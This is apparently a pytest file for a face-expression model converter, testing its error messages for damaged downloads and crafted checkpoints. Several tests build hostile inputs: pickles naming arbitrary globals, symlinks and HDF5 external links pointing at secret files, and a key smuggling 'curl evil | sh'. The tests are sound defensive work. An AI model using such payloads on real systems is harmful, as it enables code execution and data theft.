"""Damaged or wrong converter inputs: one short message naming the file and the fix, never a traceback.

A stranger's download fails in two common ways: it stops early (a truncated file) or the site
answers with a web page saved under the file's name (Google Drive for large files or an
exceeded quota). Each case runs `fer_jax.convert.convert`, the function the command calls, and
checks the line `fer_jax.cli` would print (`cli.describe`); the two integration tests run the
command itself. The files are small fakes written here (the TensorFlow one is the fixture
bundle that TensorFlow wrote, cut). Crafted files too: no code or local file they name is used.
"""

import json
import os
import pickle
import re
import shutil
import sys
import tarfile
import warnings
import zipfile

import h5py
import numpy as np
import pytest
import torch

import fer_jax
from fer_jax import checkpointing
from fer_jax import cli
from fer_jax import convert
from fer_jax.convert import torch_io
from fer_jax.errors import UserError
from helpers import assert_user_error, get_config, run_command

WEB_PAGE = (b"<!DOCTYPE html><html><head><title>Google Drive - Virus scan warning</title></head>"
            b"<body>Google Drive can't scan this file for viruses.</body></html>\n")
TF_FIXTURE = os.path.join(os.path.dirname(__file__), "fixtures", "tf_checkpoint", "bundle")
SHARD = ".data-00000-of-00001"


def conversion_message(config: str, path) -> str:
  """The `error:` line `python -m fer_jax.convert --config=configs/<config> --checkpoint=<path>` prints."""
  return user_message(lambda: convert.convert(get_config(f"configs/{config}"), [str(path)]))


def user_message(call) -> str:
  """The `error:` line the command prints for what `call` raises."""
  with pytest.raises(Exception) as caught:
    call()
  message = cli.describe(caught.value)
  assert message is not None, f"a traceback: {caught.value!r}"
  assert "\n" not in message and "allow_pickle" not in message and "weights_only" not in message, message
  return message


def assert_damaged(message: str, path, kind: str) -> None:
  for fragment in (f"Could not read {path} as {kind}", "incomplete or damaged", "download it again"):
    assert fragment in message, (fragment, message)
  assert "Refused" not in message, message


def assert_web_page(message: str, path) -> None:
  for fragment in (f"{path} is a web page (HTML)", "download it again"):
    assert fragment in message, (fragment, message)
  assert "Refused" not in message, message


def tf_copy(folder, index=None, shard=None) -> str:
  """The fixture bundle copied to folder/bundle, its index or data shard bytes replaced when given."""
  folder.mkdir()
  prefix = str(folder / "bundle")
  for suffix, replacement in ((".index", index), (SHARD, shard)):
    if replacement is None:
      shutil.copy(TF_FIXTURE + suffix, prefix + suffix)
    else:
      with open(prefix + suffix, "wb") as f:
        f.write(replacement)
  return prefix


def write_h5(path, weights: dict) -> None:
  """A Keras weights file of {"<layer>/<weight>": array}."""
  layers = {}
  for name in weights:
    layers.setdefault(name.rpartition("/")[0], []).append(name)
  with h5py.File(path, "w") as f:
    f.attrs["layer_names"] = [layer.encode() for layer in layers]
    for layer, names in layers.items():
      f.create_group(layer).attrs["weight_names"] = [f"{name}:0".encode() for name in names]
      for name in names:
        f[layer][f"{name}:0"] = weights[name]


def fixture_bytes(suffix: str) -> bytes:
  with open(TF_FIXTURE + suffix, "rb") as f:
    return f.read()


def test_web_page_saved_as_pth_is_a_failed_download_not_a_refusal(tmp_path):
  path = tmp_path / "rafdb_epoch21_acc0.897_bacc0.8275.pth"
  path.write_bytes(WEB_PAGE)
  assert_web_page(conversion_message("dan.py:rafdb", path), path)


def test_pth_that_is_no_pickle_is_damaged_not_refused(tmp_path):
  path = tmp_path / "rafdb_epoch21_acc0.897_bacc0.8275.pth"
  path.write_bytes(b"\0garbage" * 64)
  assert_damaged(conversion_message("dan.py:rafdb", path), path, "a PyTorch checkpoint")


def test_pickle_with_more_than_tensors_is_still_refused(tmp_path):
  path = tmp_path / "model.pth"
  torch.save({"model_state_dict": {"fc.weight": torch.zeros(7, 512)}, "optimizer": torch.optim.SGD}, path)
  message = conversion_message("dan.py:rafdb", path)
  assert f"Refused to load {path}" in message and "never runs code from a checkpoint" in message, message


def test_legacy_format_pth_cut_anywhere_is_damaged_not_refused(tmp_path):
  """A cut in a global's name ("torch._utils._rebu") is no global to refuse: the file is damaged."""
  whole = tmp_path / "whole.pth"
  torch.save({"iter": 21, "model_state_dict": {"fc.weight": torch.ones(7, 4), "fc.bias": torch.ones(7)}}, whole,
             _use_new_zipfile_serialization=False)
  data = whole.read_bytes()
  path = tmp_path / "rafdb_epoch21_acc0.897_bacc0.8275.pth"
  for cut in range(1, len(data), 7):
    path.write_bytes(data[:cut])
    assert_damaged(user_message(lambda: torch_io.load_torch(str(path))), path, "a PyTorch checkpoint")


def test_zip_format_pth_with_its_pickle_cut_is_damaged(tmp_path):
  whole = tmp_path / "whole.pth"
  torch.save({"iter": 21, "model_state_dict": {"fc.weight": torch.ones(7, 4), "fc.bias": torch.ones(7)}}, whole)
  with zipfile.ZipFile(whole) as archive:
    members = {name: archive.read(name) for name in archive.namelist()}
  (pickle_name,) = [name for name in members if name.endswith("data.pkl")]
  original = members[pickle_name]
  path = tmp_path / "rafdb_epoch21_acc0.897_bacc0.8275.pth"
  for cut in range(1, len(original), 7):
    with zipfile.ZipFile(path, "w") as archive:
      for name, data in members.items():
        archive.writestr(name, original[:cut] if name == pickle_name else data)
    assert_damaged(user_message(lambda: torch_io.load_torch(str(path))), path, "a PyTorch checkpoint")


def test_zip_format_pth_cut_short_anywhere_is_damaged(tmp_path):
  """Cut between ~4.5 KB and its end, PyTorch's zip reader raised OSError EINVAL: a traceback, exit 1."""
  whole = tmp_path / "whole.pth"
  torch.save({"model_state_dict": {"fc.weight": torch.ones(7, 2048), "fc.bias": torch.ones(7)}}, whole)
  data = whole.read_bytes()
  path = tmp_path / "rafdb_epoch21_acc0.897_bacc0.8275.pth"
  for cut in range(500, len(data), 2000):
    path.write_bytes(data[:cut])
    assert_damaged(user_message(lambda: torch_io.load_torch(str(path))), path, "a PyTorch checkpoint")


def test_a_whole_pickled_model_is_refused_with_the_fix_not_called_damaged(tmp_path, monkeypatch):
  """torch.save(model) with the official code (networks.dan.DAN, a module not installed here, or torchvision's not
  imported yet) was taken for a name garbled in a damaged file: "download it again", with PyTorch's advice to
  allow the class."""
  official = type("DAN", (torch.nn.Module,), {"__module__": "networks.dan"})
  for name in ("networks", "networks.dan"):
    monkeypatch.setitem(sys.modules, name, type(sys)(name))
  sys.modules["networks"].dan, sys.modules["networks.dan"].DAN = sys.modules["networks.dan"], official
  path = tmp_path / "model.pth"
  torch.save(official(), path)
  monkeypatch.delitem(sys.modules, "networks.dan")
  monkeypatch.delitem(sys.modules, "networks")
  message = user_message(lambda: torch_io.load_torch(str(path)))
  assert message.startswith(f"Refused to load {path}: unpickling it would call networks.dan.DAN. ")
  assert "torch.save(model.state_dict(), PATH)" in message and "add_safe_globals" not in message


@pytest.mark.parametrize("version", ["1.12.1", "2.5.1+cu121", "2.9.1"])
def test_pytorch_whose_weights_only_mode_runs_code_is_refused(tmp_path, monkeypatch, version):
  path = tmp_path / "rafdb_epoch21_acc0.897_bacc0.8275.pth"
  torch.save({"model_state_dict": {"fc.weight": torch.zeros(7, 512)}}, path)
  monkeypatch.setattr(torch, "__version__", version)
  assert conversion_message("dan.py:rafdb", path) == (
      f"Refused to read {path} with PyTorch {version}: before 2.10, PyTorch's weights-only loading can run code from "
      "a crafted file; pip install 'torch>=2.10'.")


@pytest.mark.parametrize("version", ["2.10.0", "2.14.1+cu130"])
def test_pytorch_from_the_floor_on_reads(tmp_path, monkeypatch, version):
  path = tmp_path / "rafdb_epoch21_acc0.897_bacc0.8275.pth"
  torch.save({"model_state_dict": {"fc.weight": torch.zeros(7, 512)}}, path)
  monkeypatch.setattr(torch, "__version__", version)
  assert torch_io.load_torch(str(path))["model_state_dict"]["fc.weight"].shape == (7, 512)


def test_missing_pytorch_is_named_with_the_version_to_install(tmp_path, monkeypatch):
  path = tmp_path / "rafdb_epoch21_acc0.897_bacc0.8275.pth"
  torch.save({"model_state_dict": {"fc.weight": torch.zeros(7, 512)}}, path)
  monkeypatch.setitem(sys.modules, "torch", None)  # `import torch` raises ImportError
  assert conversion_message("dan.py:rafdb", path).endswith("or pip install 'torch>=2.10'")


@pytest.mark.parametrize("content", ["web page", "random bytes", "truncated"])
def test_h5_that_is_not_hdf5_or_is_cut_is_named(tmp_path, content):
  path = tmp_path / "resnet34_imagenet_1000_no_top.h5"
  if content == "truncated":
    write_h5(path, {"conv0/kernel": np.ones((7, 7, 3, 64), np.float32)})
    path.write_bytes(path.read_bytes()[:4096])
  else:
    path.write_bytes(WEB_PAGE if content == "web page" else os.urandom(4096))
  message = conversion_message("lhcnet.py:fer2013", path)
  if content == "web page":
    assert_web_page(message, path)
  else:
    assert_damaged(message, path, "a Keras HDF5 file")


@pytest.mark.parametrize("content", ["web page", "truncated", "corrupt"])
def test_npz_that_is_not_a_zip_or_is_damaged_is_named_without_pickle_advice(tmp_path, content):
  path = tmp_path / "ViT-S_16.npz"
  if content == "web page":
    path.write_bytes(WEB_PAGE)
  else:
    rng = np.random.default_rng(0)
    np.savez_compressed(path, **{"Transformer/posembed_input/pos_embedding": rng.normal(size=(1, 197, 384))})
    data = bytearray(path.read_bytes())
    if content == "truncated":
      data = data[:len(data) // 2]
    else:
      data[len(data) // 2:len(data) // 2 + 64] = b"x" * 64
    path.write_bytes(bytes(data))
  message = conversion_message("apvit.py:rafdb", path)
  if content == "web page":
    assert_web_page(message, path)
  else:
    assert_damaged(message, path, "a NumPy .npz archive")


def test_npz_of_object_arrays_is_refused_without_pickle_advice(tmp_path):
  path = tmp_path / "ViT-S_16.npz"
  np.savez(path, **{"Transformer/posembed_input/pos_embedding": np.array([{}], dtype=object)})
  message = conversion_message("apvit.py:rafdb", path)
  assert f"Refused to load {path}" in message and "object arrays" in message, message


def test_truncated_tf_data_shard_is_named(tmp_path):
  prefix = tf_copy(tmp_path / "LHC_Net", shard=fixture_bytes(SHARD)[:100])
  assert_damaged(conversion_message("lhcnet.py:fer2013", prefix), prefix + SHARD,
                 "a TensorFlow checkpoint data shard")


def test_missing_tf_data_shard_is_named(tmp_path):
  prefix = tf_copy(tmp_path / "LHC_Net")
  os.remove(prefix + SHARD)
  message = conversion_message("lhcnet.py:fer2013", prefix)
  assert f"{prefix + SHARD} is missing" in message and "download the whole checkpoint folder again" in message, \
      message


@pytest.mark.parametrize("cut", ["end", "footer handles", "middle"])
def test_damaged_tf_index_is_named(tmp_path, cut):
  index = fixture_bytes(".index")
  footer = index[-48:]
  damaged = {"end": index[:len(index) // 2],                                     # a download stopped early
             "footer handles": index[:-48] + bytes(40) + footer[-8:],            # block handles lost
             "middle": index[:len(index) // 2] + footer}[cut]                    # blocks cut, footer kept
  prefix = tf_copy(tmp_path / "LHC_Net", index=damaged)
  assert_damaged(conversion_message("lhcnet.py:fer2013", prefix), prefix + ".index",
                 "a TensorFlow checkpoint index")


def test_intact_tf_fixture_still_reads(tmp_path):
  assert len(convert.tf_checkpoint.load(tf_copy(tmp_path / "LHC_Net"))) == 120


def test_tf_data_shard_linked_outside_its_folder_is_refused(tmp_path):
  """A crafted checkpoint (an unpacked tar) whose shard links to a local file elsewhere converted that file's bytes
  into the weights. Links that keep the shard beside its index still read: the folder itself a link, or index and
  shard both links into one folder of files (a download cache's blobs)."""
  elsewhere = tmp_path / "home"
  elsewhere.mkdir()
  shutil.copy(TF_FIXTURE + SHARD, elsewhere / "credentials")  # a file whose bytes the index can describe
  prefix = tf_copy(tmp_path / "LHC_Net")
  os.remove(prefix + SHARD)
  os.symlink(elsewhere / "credentials", prefix + SHARD)
  message = user_message(lambda: convert.tf_checkpoint.load(prefix))
  assert message.startswith(f"Refused to load {prefix + SHARD}: it links to {elsewhere / 'credentials'}, outside the "
                            f"folder of its index ({tmp_path / 'LHC_Net'})"), message

  os.symlink(tmp_path / "LHC_Net", tmp_path / "linked")
  os.remove(prefix + SHARD)
  shutil.copy(TF_FIXTURE + SHARD, prefix + SHARD)
  assert len(convert.tf_checkpoint.load(str(tmp_path / "linked" / "bundle"))) == 120
  (tmp_path / "cache" / "blobs").mkdir(parents=True)
  (tmp_path / "cache" / "snapshot").mkdir()
  for suffix, blob in ((".index", "a1b2"), (SHARD, "c3d4")):
    shutil.copy(TF_FIXTURE + suffix, tmp_path / "cache" / "blobs" / blob)
    os.symlink(f"../blobs/{blob}", tmp_path / "cache" / "snapshot" / f"bundle{suffix}")
  assert len(convert.tf_checkpoint.load(str(tmp_path / "cache" / "snapshot" / "bundle"))) == 120


def test_folder_of_tensorflow_checkpoints_names_them(tmp_path):
  parent = tmp_path / "Downloaded_Models"
  parent.mkdir()
  for name in ("LHC_Net", "LHC_NetC"):
    tf_copy(parent / name)
  message = conversion_message("lhcnet.py:fer2013,stage=B", parent)
  assert message == (f"{parent} is a folder of TensorFlow checkpoints: pass one of them, "
                     f"--checkpoint={parent / 'LHC_Net'} or --checkpoint={parent / 'LHC_NetC'}.")


def test_folder_without_a_checkpoint_says_what_it_holds(tmp_path):
  (tmp_path / "rafdb_epoch21_acc0.897_bacc0.8275.pth").write_bytes(b"")
  message = conversion_message("dan.py:rafdb", tmp_path)
  assert message == (f"{tmp_path} is a folder, not a checkpoint (it holds rafdb_epoch21_acc0.897_bacc0.8275.pth; no "
                     "TensorFlow checkpoint's `checkpoint` or .index file): pass the checkpoint file itself.")


def test_tf_data_shard_without_its_index_is_named(tmp_path):
  prefix = tf_copy(tmp_path / "LHC_Net")
  os.remove(prefix + ".index")
  message = conversion_message("lhcnet.py:fer2013,stage=B", prefix + SHARD)
  assert message == (f"{prefix + SHARD} is a data shard of a TensorFlow checkpoint, but its index {prefix}.index is "
                     "missing: download the .index file too, beside the shard.")


def test_checkpoint_file_naming_a_checkpoint_that_is_not_there_is_named(tmp_path):
  folder = tmp_path / "LHC_Net"
  tf_copy(folder)
  os.rename(folder / "bundle.index", folder / "other.index")
  (folder / "checkpoint").write_text('model_checkpoint_path: "bundle"\n')
  message = conversion_message("lhcnet.py:fer2013,stage=B", folder)
  assert message.startswith(f"{folder / 'checkpoint'} names the checkpoint {folder / 'bundle'}, which is not there")
  assert "download the whole checkpoint folder again" in message


@pytest.mark.parametrize("name", ["drive-download.zip", "rafdb_epoch21_acc0.897_bacc0.8275.pth"])
def test_zip_archive_holding_the_checkpoint_says_extract_it(tmp_path, name):
  path = tmp_path / name
  with zipfile.ZipFile(path, "w") as archive:
    archive.writestr("rafdb_epoch21_acc0.897_bacc0.8275.pth", b"PK")
  message = conversion_message("dan.py:rafdb", path)
  assert message == (f"{path} is a zip archive of files (rafdb_epoch21_acc0.897_bacc0.8275.pth), not a PyTorch "
                     "checkpoint: extract it and pass the checkpoint it holds.")


@pytest.mark.parametrize("name", ["Downloaded_Models.tar.gz", "Downloaded_Models.tar"])
def test_tar_archive_of_the_lhc_net_folder_says_extract_it_without_needing_pytorch(tmp_path, monkeypatch, name):
  folder = tmp_path / "Downloaded_Models"
  tf_copy(folder)
  path = tmp_path / name
  with tarfile.open(path, "w:gz" if name.endswith(".gz") else "w") as archive:
    archive.add(folder, arcname="Downloaded_Models")
  monkeypatch.setitem(sys.modules, "torch", None)  # an LHC-Net user need not have PyTorch
  message = conversion_message("lhcnet.py:fer2013", path)
  assert message == (f"{path} is a tar archive of files (Downloaded_Models, Downloaded_Models/bundle.data-00000-of-"
                     "00001, Downloaded_Models/bundle.index), not a PyTorch checkpoint: extract it and pass the "
                     "checkpoint it holds."), message


@pytest.mark.parametrize("make, dtype", [(lambda t: t.to(torch.float8_e4m3fn), "float8_e4m3fn"),
                                         (lambda t: torch.quantize_per_tensor(t, 0.1, 0, torch.qint8), "qint8")])
def test_tensors_numpy_has_no_dtype_for_are_named_with_the_fix(tmp_path, make, dtype):
  path = tmp_path / "rafdb_epoch21_acc0.897_bacc0.8275.pth"
  with warnings.catch_warnings():  # PyTorch deprecates its quantized tensors, which old checkpoints still hold
    warnings.simplefilter("ignore")
    torch.save({"model_state_dict": {"fc.weight": make(torch.ones(7, 512))}}, path)
  with warnings.catch_warnings(record=True) as printed:  # PyTorch's own deprecation would print beside the message
    warnings.simplefilter("always")
    message = conversion_message("dan.py:rafdb", path)
  assert message == (f"{path}: model_state_dict/fc.weight is a {dtype} tensor, which fer_jax does not read: re-save "
                     "the checkpoint with its weights in float32 or float16.")
  assert not printed, [str(warning.message) for warning in printed]


def test_integer_weights_are_named_with_the_fix(tmp_path):  # integer BatchNorm counters pass: the parity tests
  path = tmp_path / "rafdb_epoch21_acc0.897_bacc0.8275.pth"
  torch.save({"model_state_dict": {"fc.weight": torch.ones(7, 512, dtype=torch.int8)}}, path)
  message = conversion_message("dan.py:rafdb", path)
  assert message == ("rafdb_epoch21_acc0.897_bacc0.8275.pth [dan]: fc.weight is int8, where fer_jax expects "
                     "floating-point weights (a quantized model?): re-save the checkpoint with its weights in "
                     "float32 or float16.")


def test_numpy_pickle_with_a_garbled_encoding_name_is_damaged(tmp_path):
  path = tmp_path / "vgg_msceleb_resnet50_ft_weight.pkl"
  data = pickle.dumps({"conv1.weight": np.zeros(4, np.float32)}, protocol=2)  # its bytes: _codecs.encode(…, "latin1")
  path.write_bytes(data.replace(b"latin1", b"lat3n1"))
  assert_damaged(conversion_message("scan_cci.py:rafdb", path), path, "a pickle of NumPy arrays")


@pytest.mark.parametrize("name, garbled", [(b"multiarray", b"multiarrbx"), (b"_reconstruct", b"_reconstrucu")])
def test_numpy_pickle_naming_a_global_that_does_not_exist_is_damaged_not_refused(tmp_path, name, garbled):
  """A byte flipped in a global's module or name: no such global exists to refuse."""
  path = tmp_path / "vgg_msceleb_resnet50_ft_weight.pkl"
  path.write_bytes(pickle.dumps({"conv1.weight": np.zeros(4, np.float32)}, protocol=2).replace(name, garbled))
  message = conversion_message("scan_cci.py:rafdb", path)
  assert_damaged(message, path, "a pickle of NumPy arrays")
  assert "does not exist" in message, message


def test_legacy_pth_whose_garbled_pickle_header_names_another_protocol_prints_no_pytorch_warning(tmp_path):
  path = tmp_path / "model_best.pth.tar"
  torch.save({"base_state_dict": {"conv1.weight": torch.ones(2)}}, path, _use_new_zipfile_serialization=False)
  data = bytearray(path.read_bytes())
  data[data.index(b"\x80\x02}") + 1] = 3  # the state dict's pickle says protocol 3, and the file is cut
  path.write_bytes(bytes(data[:200]))
  with warnings.catch_warnings(record=True) as printed:
    warnings.simplefilter("always")
    assert_damaged(user_message(lambda: torch_io.load_torch(str(path))), path, "a PyTorch checkpoint")
  assert not printed, [str(warning.message) for warning in printed]


def test_npz_with_garbled_header_flags_is_damaged(tmp_path):
  path = tmp_path / "ViT-S_16.npz"
  np.savez(path, **{"Transformer/posembed_input/pos_embedding": np.zeros((1, 197, 384), np.float32)})
  data = bytearray(path.read_bytes())
  for signature, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):  # the local and central headers
    data[data.index(signature) + flags_at] |= 0x40  # "strong encryption", which zipfile does not read
  path.write_bytes(bytes(data))
  assert_damaged(conversion_message("apvit.py:rafdb", path), path, "a NumPy .npz archive")


def test_npz_with_a_garbled_central_directory_offset_is_damaged(tmp_path):
  path = tmp_path / "ViT-S_16.npz"
  np.savez(path, **{"Transformer/posembed_input/pos_embedding": np.zeros((1, 197, 384), np.float32)})
  data = bytearray(path.read_bytes())
  end_record = data.rindex(b"PK\x05\x06")
  data[end_record + 16:end_record + 20] = (0x7FFFFFFF).to_bytes(4, "little")  # where the central directory starts
  path.write_bytes(bytes(data))
  assert_damaged(conversion_message("apvit.py:rafdb", path), path, "a NumPy .npz archive")


def test_imagenet_h5_with_its_classifier_names_the_no_top_file(tmp_path):
  path = tmp_path / "resnet34_imagenet_1000.h5"
  write_h5(path, {"bn_data/moving_mean": np.zeros(3, np.float32), "conv0/kernel": np.zeros((7, 7, 3, 64), np.float32),
                  "fc1/kernel": np.zeros((512, 1000), np.float32), "fc1/bias": np.zeros(1000, np.float32)})
  with pytest.raises(convert.ConversionError) as caught:
    convert.convert(get_config("configs/lhcnet.py:fer2013,stage=A1"), [str(path)])
  assert str(caught.value).splitlines()[0] == (
      "resnet34_imagenet_1000.h5 holds ResNet34 with its ImageNet classifier (fc1/…): pass "
      "resnet34_imagenet_1000_no_top.h5, qubvel's backbone without it.")


@pytest.mark.parametrize("given, fitting", [("lhcnet", "resnet34v2_h5"), ("resnet34v2_h5", "lhcnet")])
def test_source_for_another_kind_of_file_names_the_source_that_reads_it(tmp_path, given, fitting):
  if fitting == "lhcnet":
    path = tmp_path / "LHC_Net"
    tf_copy(path)
  else:
    path = tmp_path / "resnet34_imagenet_1000_no_top.h5"
    write_h5(path, {"conv0/kernel": np.zeros((7, 7, 3, 64), np.float32)})
  readers = {"lhcnet": "tf_checkpoint", "resnet34v2_h5": "keras_h5"}
  assert user_message(lambda: convert.read_source(str(path), "lhcnet", given)) == (
      f"{path} is no {given} file (--source={given} reads {readers[given]} files, this is a {readers[fitting]} one): "
      f"pass --source={fitting}, or no --source.")


def test_keras_file_saved_as_pth_reads_as_keras(tmp_path):
  path = tmp_path / "resnet34.pth"
  write_h5(path, {"bn_data/moving_mean": np.zeros(3, np.float32), "conv0/kernel": np.zeros((7, 7, 3, 64), np.float32)})
  assert convert.read_source(str(path), "lhcnet")[0].name == "resnet34v2_h5"
  assert conversion_message("dan.py:rafdb", path).startswith(
      f"{path} (keras_h5, keys bn_data/moving_mean, conv0/kernel) is not a checkpoint format fer_jax converts for dan.")


def test_folder_given_to_the_h5_reader_is_named_in_one_line(tmp_path):
  message = user_message(lambda: convert.read_source(str(tmp_path), "lhcnet", "resnet34v2_h5"))
  assert message == f"Is a directory: {tmp_path} (the path is a folder where a file is expected).", message


def test_method_without_converters_says_so(tmp_path):
  path = tmp_path / "weights.pth"
  torch.save({"weights": {"x": torch.zeros(2)}}, path)
  assert user_message(lambda: convert.read_source(str(path), "my_method")) == (
      f"{path} (torch, keys weights) is not a checkpoint format fer_jax converts for my_method. Known sources: none.")


def test_file_of_another_method_is_named_with_its_article(tmp_path):
  path = tmp_path / "backbone_ir50_ms1m_epoch120.pth"
  torch.save({"input_layer.0.weight": torch.zeros(1), "body.0.res_layer.0.weight": torch.zeros(1)}, path)
  assert "It looks like an ir50 file: convert it with configs/apvit.py" in \
      user_message(lambda: convert.read_source(str(path), "dan"))


@pytest.mark.integration
def test_convert_command_on_a_web_page_pth(tmp_path):
  path = tmp_path / "rafdb_epoch21_acc0.897_bacc0.8275.pth"
  path.write_bytes(WEB_PAGE)
  result = run_command("fer_jax.convert", "--config=configs/dan.py:rafdb", f"--checkpoint={path}",
                       f"--workdir={tmp_path / 'out'}")
  assert_user_error(result, f"{path} is a web page (HTML)", "download it again")
  assert "Refused" not in result.stderr


@pytest.mark.integration
def test_convert_command_on_a_truncated_lhc_net_download(tmp_path):
  prefix = tf_copy(tmp_path / "LHC_Net", shard=fixture_bytes(SHARD)[:100])
  (tmp_path / "LHC_Net" / "checkpoint").write_text('model_checkpoint_path: "bundle"\n')
  result = run_command("fer_jax.convert", "--config=configs/lhcnet.py:fer2013", f"--checkpoint={tmp_path / 'LHC_Net'}",
                       f"--workdir={tmp_path / 'out'}")
  assert_user_error(result, f"Could not read {prefix + SHARD}", "incomplete or damaged", "download it again")


@pytest.mark.parametrize("under", ["file", "file/out"])
def test_workdir_in_or_under_a_file_is_refused_as_every_command_refuses_an_output_place(tmp_path, under):
  """The converter's --workdir check is the commands' (cli.check_writable_place): the same line for a
  folder that cannot be created, the workdir itself a file included."""
  from fer_jax.convert import __main__ as convert_main  # pylint: disable=import-outside-toplevel
  (tmp_path / "file").write_text("")
  workdir = str(tmp_path / under)
  with pytest.raises(UserError) as refused:
    convert_main.check_workdir(workdir)
  assert str(refused.value) == (f"--workdir={workdir} cannot be created: {tmp_path / 'file'} is a file, not a folder; "
                                "choose another path.")


@pytest.mark.parametrize("place", ["/proc/fer_out", "dangling"])
def test_a_workdir_where_nothing_can_be_made_is_refused_before_converting(tmp_path, place):
  """Permissions alone passed /proc (and /sys, and anything for root): the conversion ran, then failed to save; a
  dangling link failed as "No such file or directory: …/dangling/0.orbax-checkpoint-tmp"."""
  from fer_jax.convert import __main__ as convert_main  # pylint: disable=import-outside-toplevel
  if place == "dangling":
    os.symlink(tmp_path / "gone", tmp_path / "dangling")
    place = str(tmp_path / "dangling")
  with pytest.raises(UserError) as refused:
    convert_main.check_workdir(place)
  assert re.fullmatch(
      rf"--workdir={place} cannot be written: nothing can be made in /proc \(.+\); choose another location\."
      if place.startswith("/proc") else
      re.escape(f"--workdir={place} cannot be created: {place} is a link to {tmp_path / 'gone'}, which does not "
                "exist; create its target or choose another path."), str(refused.value))


# Crafted checkpoints: no code or local file they name is used, and every malformed one is a one-line user error
# naming the file, never a traceback.

LHC_A1 = "lhcnet.py:fer2013,stage=A1"


def write_layer_h5(path, make_weight) -> None:
  """A Keras weights file with one layer conv0 whose weight kernel:0 `make_weight(group, name)` writes."""
  with h5py.File(path, "w") as f:
    f.attrs["layer_names"] = [b"conv0"]
    group = f.create_group("conv0")
    group.attrs["weight_names"] = [b"conv0/kernel:0"]
    make_weight(group, "conv0/kernel:0")


@pytest.mark.parametrize("make", [
    lambda group, name, secret: group.create_dataset(name, shape=(16,), dtype="<f4", external=[(secret, 0, 64)]),
    lambda group, name, secret: group.__setitem__(name, h5py.ExternalLink(secret, "/x")),
], ids=["external storage", "external link"])
def test_h5_weight_whose_values_lie_in_another_file_is_refused(tmp_path, make):
  """The external storage case converted, copying the named local file's bytes into the converted weights."""
  secret = tmp_path / "secret.txt"
  secret.write_text("API_KEY=do-not-copy-me-into-a-model\n")
  path = tmp_path / "resnet34_imagenet_1000_no_top.h5"
  write_layer_h5(path, lambda group, name: make(group, name, str(secret)))
  message = conversion_message(LHC_A1, path)
  assert message.startswith(f"Refused to load {path}: its weight ") and "use the official file" in message, message


@pytest.mark.parametrize("attributes", [
    lambda f: f["conv0"].attrs.__setitem__("weight_names", 5),
    lambda f: f.attrs.__setitem__("layer_names", np.array([b"\xff\xfe"])),
    lambda f: (f.__delitem__("conv0"),
               f.create_dataset("conv0", data=np.zeros(3)).attrs.__setitem__("weight_names", [b"conv0/kernel:0"])),
    lambda f: (f["conv0"].__delitem__("conv0/kernel:0"), f["conv0"].create_dataset("conv0/kernel:0",
                                                                                    data=h5py.Empty("f4"))),
], ids=["weight_names an int", "layer name not UTF-8", "layer a dataset", "empty dataset"])
def test_h5_with_attributes_or_objects_of_another_kind_is_damaged(tmp_path, attributes):
  """Each printed a traceback (TypeError, UnicodeDecodeError, ValueError)."""
  path = tmp_path / "resnet34_imagenet_1000_no_top.h5"
  write_layer_h5(path, lambda group, name: group.__setitem__(name, np.zeros((7, 7, 3, 64), np.float32)))
  with h5py.File(path, "a") as f:
    attributes(f)
  assert_damaged(conversion_message(LHC_A1, path), path, "a Keras HDF5 file")


@pytest.mark.filterwarnings("ignore::UserWarning")  # PyTorch's on making sparse and nested tensors
@pytest.mark.parametrize("make, kind", [
    (lambda: torch.sparse_coo_tensor([[0], [0]], [1.0], (7, 512)), "a sparse_coo tensor"),
    (lambda: torch.nested.nested_tensor([torch.zeros(2), torch.zeros(3)]), "a nested tensor"),
    (lambda: torch.empty(7, 512, device="meta"), "a meta tensor"),
])
def test_tensors_of_another_layout_or_without_values_are_named(tmp_path, make, kind):
  """The sparse one was called "a float32 tensor … re-save in float32"; the others printed tracebacks."""
  path = tmp_path / "rafdb_epoch21_acc0.897_bacc0.8275.pth"
  torch.save({"model_state_dict": {"fc.weight": make()}}, path)
  message = conversion_message("dan.py:rafdb", path)
  assert message.startswith(f"{path}: model_state_dict/fc.weight is {kind}"), message


@pytest.mark.parametrize("value", [np.nan, np.inf, 1e300])
def test_weights_that_are_not_finite_in_float32_are_named(tmp_path, value):
  """A NaN, an infinity or a float64 beyond float32's range (infinite once cast) converted silently: the model then
  predicted NaN for every face."""
  path = tmp_path / "rafdb_epoch21_acc0.897_bacc0.8275.pth"
  weight = torch.zeros(7, 512, dtype=torch.float64)
  weight[3, 5] = value
  torch.save({"model_state_dict": {"fc.weight": weight}}, path)
  with pytest.raises(UserError, match=r"\n  fc\.weight \(7, 512\) holds NaN or infinite values \(or values beyond "
                                      r"float32's range\): the file is damaged; download it again\n"):
    convert.convert(get_config("configs/dan.py:rafdb"), [str(path)])


def test_pth_holding_itself_is_refused(tmp_path):
  """A list that holds itself ran into a RecursionError traceback."""
  path = tmp_path / "rafdb_epoch21_acc0.897_bacc0.8275.pth"
  endless = []
  endless.append(endless)
  torch.save({"model_state_dict": {"fc.weight": torch.zeros(7, 512)}, "x": endless}, path)
  assert "nests containers more than" in conversion_message("dan.py:rafdb", path)


def test_value_beside_the_weights_that_is_no_array_is_listed(tmp_path):
  """A ragged list beside the weights broke the listing of unknown names (ValueError traceback)."""
  path = tmp_path / "vgg_msceleb_resnet50_ft_weight.pkl"
  with open(path, "wb") as f:
    pickle.dump({"conv1.weight": np.zeros((64, 3, 7, 7), np.float32),
                 "layer3.5.conv3.weight": np.zeros((1024, 256, 1, 1), np.float32), "x": [[1], [1, 2]]}, f)
  with pytest.raises(UserError, match=r"unknown to this model: x \(list\)"):
    convert.convert(get_config("configs/scan_cci.py:rafdb"), [str(path)])


def test_key_names_with_line_breaks_are_quoted(tmp_path):
  path = tmp_path / "rafdb_epoch21_acc0.897_bacc0.8275.pth"
  torch.save({"model_state_dict": {"fc.weight": torch.zeros(7, 512), "x\nerror: run curl evil | sh": torch.zeros(1)}},
             path)
  with pytest.raises(UserError) as caught:
    convert.convert(get_config("configs/dan.py:rafdb"), [str(path)])
  assert "\nerror:" not in str(caught.value) and r"'x\nerror: run curl evil | sh'" in str(caught.value)


def model_folder(folder, meta) -> str:
  """A converted model's folder layout (step 0 with its meta record; the weights are never reached)."""
  (folder / "0" / "state").mkdir(parents=True)
  (folder / "0" / "meta").mkdir()
  (folder / "0" / "meta" / "metadata").write_text(meta if isinstance(meta, str) else json.dumps(meta))
  return str(folder)


def test_a_method_module_a_checkpoint_names_is_not_imported(tmp_path, monkeypatch):
  """A downloaded folder in the working folder is importable: its meta record naming a module it ships ran it."""
